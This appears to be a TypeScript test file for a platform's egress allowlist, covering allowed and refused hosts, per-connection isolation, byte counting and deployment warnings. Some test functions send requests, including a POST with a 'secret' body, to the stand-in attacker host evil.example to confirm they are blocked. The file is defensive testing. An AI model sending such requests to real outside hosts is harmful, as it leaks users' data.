import { createServer, type Server } from "node:http";
import type { AddressInfo, LookupFunction } from "node:net";
import { sql } from "kysely";
import { afterAll, beforeAll, expect, test } from "vitest";
import { actions, triggerAction } from "#actions";
import { connections, createConnection } from "#connections";
import { DAY } from "#foundation";
import { deployFunctions, functions } from "#functions";
import { newAction, newBundle, newOnEvent, newUpload } from "#functions/testing";
import { createIntegration, integrations } from "#integrations";
import { flushLogs } from "#logs";
import { proxy } from "#proxy";
import { type TestApp, testApp } from "#testing";
import { planDeployment } from "../deploy/plan-deployment.ts";
import { countEgress, deleteOldEgress, eraseEgress, flushEgress } from "./count-egress.ts";
import { presentEgress } from "./present-egress.ts";

// Each end user of the provider has a host, which is 127.0.0.1 here.

let app: TestApp;
let provider: Server;
let port = 0;

const lookup: LookupFunction = (_hostname, options, callback) => {
  if (options.all === true) callback(null, [{ address: "127.0.0.1", family: 4 }]);
  else callback(null, "127.0.0.1", 4);
};

beforeAll(async () => {
  provider = createServer((request, response) => {
    request.resume();
    request.on("end", () => response.end(JSON.stringify({ host: request.headers.host })));
  });
  await new Promise<void>((resolve) => provider.listen(0, "127.0.0.1", resolve));
  // It listens on a port, not on a socket file.
  port = (provider.address() as AddressInfo).port;
  app = await testApp({
    slices: [actions, connections, functions, integrations, proxy],
    runsFunctions: true,
    lookup,
  });
  const integration = await createIntegration(app.ctx, {
    ...{ provider: "private-api-bearer", uniqueKey: "crm", displayName: undefined },
    ...{ forwardWebhooks: true, credentials: undefined, custom: {} },
    settings: { allowed_hosts: ["files.example"] },
    integrationConfig: { base_url: `http://acme.example:${port}` },
  });
  for (const connectionId of ["c1", "c2"]) {
    await createConnection(app.ctx, {
      ...{ integration, connectionId, metadata: undefined, connectionConfig: undefined },
      ...{ tags: {}, webhookUrlOverride: undefined },
      credentials: { type: "API_KEY", apiKey: "k" },
    });
  }
});
afterAll(async () => {
  await app[Symbol.asyncDispose]();
  provider.closeAllConnections();
  provider.close();
});

async function deploy(body: string, change: Parameters<typeof newAction>[1] = {}): Promise<number> {
  const flow = newAction("sends", { fileBody: newBundle("action", body), ...change });
  const [deployed] = await deployFunctions(app.ctx, newUpload({ flowConfigs: [flow] }));
  return deployed?.fn.id ?? 0;
}

async function run(connectionId = "c1"): Promise<unknown> {
  const output = await triggerAction(app.ctx, {
    ...{ integrationKey: "crm", connectionId, actionName: "sends", input: {} },
  });
  return JSON.parse(Buffer.from(output).toString());
}

const named = { integrationKey: "crm", name: "sends", type: undefined, days: 7 };

test("a function reaches the hosts of its integration and those that it names, and learns why no other", async () => {
  await deploy(
    `const said = [];
     for (const url of ["http://acme.example:${port}/", "http://x.own.example:${port}/", "http://evil.example/"]) {
       try { said.push((await (await fetch(url)).json()).host); } catch (error) { said.push(error.cause.message); }
     }
     return said;`,
    { egress: ["{integration}", `*.own.example:${port}`] },
  );

  const said = await run();

  expect(said).toEqual([
    `acme.example:${port}`,
    `x.own.example:${port}`,
    `The action sends may not send to evil.example: its egress does not name the host. If it should, write egress: ["{integration}", "*.own.example:${port}", "evil.example"] and deploy it.`,
  ]);
  await flushLogs(app.ctx);
  const { rows } = await sql<{ error: { type: string } }>`
    select error from operation_messages where error->>'type' = 'egress_refused'`.execute(
    app.ctx.db,
  );
  expect(rows).toHaveLength(1);
});

test("a host that depends on the connection is open to that connection alone, by none of the ways to another's", async () => {
  const integration = await createIntegration(app.ctx, {
    ...{ provider: "rapidapi", uniqueKey: "desk", displayName: undefined },
    ...{ forwardWebhooks: true, credentials: undefined, custom: {} },
    ...{ settings: {}, integrationConfig: {} },
  });
  for (const subdomain of ["ada", "bob"]) {
    await createConnection(app.ctx, {
      ...{ integration, connectionId: subdomain, metadata: undefined },
      ...{ connectionConfig: { subdomain }, tags: {}, webhookUrlOverride: undefined },
      credentials: { type: "API_KEY", apiKey: "k" },
    });
  }
  const fileBody = newBundle(
    "action",
    `const own = "https://" + input.own + ".p.rapidapi.com";
     const other = "https://" + input.other + ".p.rapidapi.com";
     const call = { method: "GET", endpoint: "/", retries: 0 };
     const ways = [
       () => fetch(own),
       () => svc.get({ ...call }),
       () => fetch(other),
       () => svc.uncontrolledFetch({ url: new URL(other) }),
       () => svc.get({ ...call, baseUrlOverride: other }),
       () => svc.proxy({ ...call, connectionId: input.other, providerConfigKey: "desk", baseUrlOverride: own }),
     ];
     const said = [];
     for (const way of ways) {
       const refused = (error) => /may not send to/.test(String(error.cause?.message ?? error.message));
       said.push(await way().then(() => "sent", (error) => (refused(error) ? "refused" : "tried")));
     }
     return said;`,
  );
  const flow = newAction("tells", {
    ...{ providerConfigKey: "desk", egress: ["{integration}"], fileBody },
  });
  await deployFunctions(app.ctx, newUpload({ flowConfigs: [flow] }));

  for (const [own, other] of [
    ["ada", "bob"],
    ["bob", "ada"],
  ] as const) {
    const output = await triggerAction(app.ctx, {
      ...{ integrationKey: "desk", connectionId: own, actionName: "tells", input: { own, other } },
    });

    expect(JSON.parse(Buffer.from(output).toString())).toEqual([
      // Nothing listens at the usual port.
      ...["tried", "tried"],
      ...["refused", "refused", "refused", "refused"],
    ]);
  }
});

test("without egress a function reaches what it reached before, and with an empty one nothing", async () => {
  const body = `try { return (await (await fetch("http://any.example:${port}/")).json()).host; } catch (error) { return error.cause.type; }`;

  await deploy(body);
  expect(await run()).toBe(`any.example:${port}`);
  await deploy(body, { egress: [] });
  expect(await run()).toBe("egress_refused");
});

test("bytes are counted by host, connection and day, refusals as well", async () => {
  const functionId = await deploy(
    `await svc.post({ endpoint: "/x", data: "a".repeat(5000) });
     await fetch("http://evil.example/", { method: "POST", body: "secret" }).catch(() => {});
     return 1;`,
    { egress: ["{integration}"], version: "9" },
  );
  await flushEgress(app.ctx);
  await sql`delete from function_egress`.execute(app.ctx.db);
  await run("c1");
  await run("c1");
  await run("c2");

  const all = await presentEgress(app.ctx, { ...named, connectionId: undefined });
  const one = await presentEgress(app.ctx, { ...named, connectionId: "c2" });

  expect(all.total).toMatchObject({ calls: 3, refused: 3 });
  expect(all.total.bytes_sent).toBeGreaterThan(15_000);
  expect(all.total.bytes_sent).toBeLessThan(17_000);
  expect(all.total.bytes_received).toBeGreaterThan(100);
  expect(all.hosts).toMatchObject([
    { host: `acme.example:${port}`, sums: { calls: 3, refused: 0 } },
    { host: "evil.example", sums: { calls: 0, refused: 3, bytes_sent: 0 } },
  ]);
  expect(all.connections).toMatchObject([
    { connection_id: "c1", sums: { calls: 2 } },
    { connection_id: "c2", sums: { calls: 1 } },
  ]);
  expect(one.total).toMatchObject({ calls: 1, refused: 1 });
  expect(functionId).toBeGreaterThan(0);
});

test("a function that makes up hosts has few rows, old days go, and so does what an erased end user left", async () => {
  const { ctx } = app;
  const functionId = await deploy("return 1;", { version: "10" });
  const { rows } = await sql<{ uuid: string }>`
    select uuid from connections where connection_id = 'c1'`.execute(ctx.db);
  // What the database answers is an id of a connection.
  const connection = rows[0]?.uuid as Parameters<typeof countEgress>[1]["connection"];
  await sql`delete from function_egress`.execute(ctx.db);

  for (let round = 0; round < 5; round += 1) {
    for (let n = 0; n < 200; n += 1) {
      const host = `h${round}-${n}.example`;
      countEgress(ctx, {
        functionId,
        connection,
        host,
        calls: 1,
        refused: 0,
        sent: 10,
        received: 1,
      });
    }
    await flushEgress(ctx);
  }
  const { total, hosts } = await presentEgress(ctx, { ...named, connectionId: undefined });
  await sql`update function_egress set day = ${new Date(ctx.clock.now().getTime() - 31 * DAY)}::date
             where host <> 'h0-0.example'`.execute(ctx.db);
  await deleteOldEgress(ctx);
  const kept = await presentEgress(ctx, { ...named, days: 30, connectionId: undefined });
  await eraseEgress(ctx, [connection]);
  const erased = await presentEgress(ctx, { ...named, days: 30, connectionId: undefined });

  expect(total).toMatchObject({ calls: 1000, bytes_sent: 10_000, bytes_received: 1000 });
  expect(hosts.length).toBeLessThanOrEqual(21);
  expect(hosts.find(({ host }) => host === null)?.sums.calls).toBeGreaterThan(900);
  expect(kept.total.calls).toBeLessThan(100);
  expect(kept.total.calls).toBeGreaterThan(0);
  expect(erased.total.calls).toBe(0);
});

test("a plan names new hosts, says where a function reaches further, and stays quiet otherwise", async () => {
  const { ctx } = app;
  const plan = async (change: Parameters<typeof newAction>[1]) => {
    const flow = newAction("sends", { fileBody: newBundle("action", "return 2;"), ...change });
    const { impact, warnings } = await planDeployment(ctx, newUpload({ flowConfigs: [flow] }), {
      details: "true",
    });
    const own = impact?.find(({ name }) => name === "sends");
    return { parts: own?.parts.filter(({ part }) => part === "egress"), warnings };
  };
  await deploy("return 2;", {
    egress: ["{integration}", "*.a.example"],
    credentials: "proxy-only",
  });
  const same = {
    egress: ["{integration}", "*.a.example"],
    credentials: "proxy-only" as const,
  };

  expect(await plan(same)).toEqual({ parts: undefined, warnings: undefined });
  expect((await plan({ ...same, egress: ["{integration}", "x.a.example"] })).parts).toEqual([
    { part: "egress", effect: "compatible", message: "It may no longer send to *.a.example." },
  ]);
  const wider = await plan({ ...same, egress: [...same.egress, "evil.example"] });
  expect(wider.parts).toEqual([
    {
      ...{ part: "egress", effect: "compatible", widens: true },
      message: "It may also send to evil.example.",
    },
  ]);
  expect(wider.warnings).toEqual([
    'The action "sends" of integration "crm" reaches further than before. It may also send to evil.example.',
  ]);
  const open = await plan({ egress: ["*"] });
  expect(open.parts).toMatchObject([{ widens: true }, { widens: true }]);
  expect(await plan({})).toMatchObject({ parts: [{ widens: true }, { widens: true }] });
  expect((await plan({ ...same, egress: ["*.github.io"] })).warnings?.[1]).toContain(
    "anybody can have a host below that name",
  );
});

test.each([
  "*.co.uk",
  "*.com",
  "10.0.0.5",
  "8.8.8.8",
  "[::1]:80",
  "https://a.example",
  "a.example/x",
])("%s cannot be deployed", async (entry) => {
  const deploying = async () => await deploy("return 1;", { egress: [entry] });

  await expect(deploying()).rejects.toThrow();
});

test("an address that the operator has opened can be deployed, and an on-event function has egress, too", async () => {
  await deploy("return 1;", { egress: ["127.0.0.1:4010"], credentials: "proxy-only" });
  const { providerConfigKey, scripts } = newOnEvent("greets");
  const own = { egress: ["API.example.com"], credentials: "proxy-only" as const };
  const changed = scripts.map((script) => ({ ...script, ...own }));
  const upload = newUpload({ onEventScriptsByProvider: [{ providerConfigKey, scripts: changed }] });

  const [deployed] = await deployFunctions(app.ctx, upload);

  expect(deployed?.fn.definition).toMatchObject({
    egress: ["api.example.com"],
    credentials: "proxy-only",
  });
});
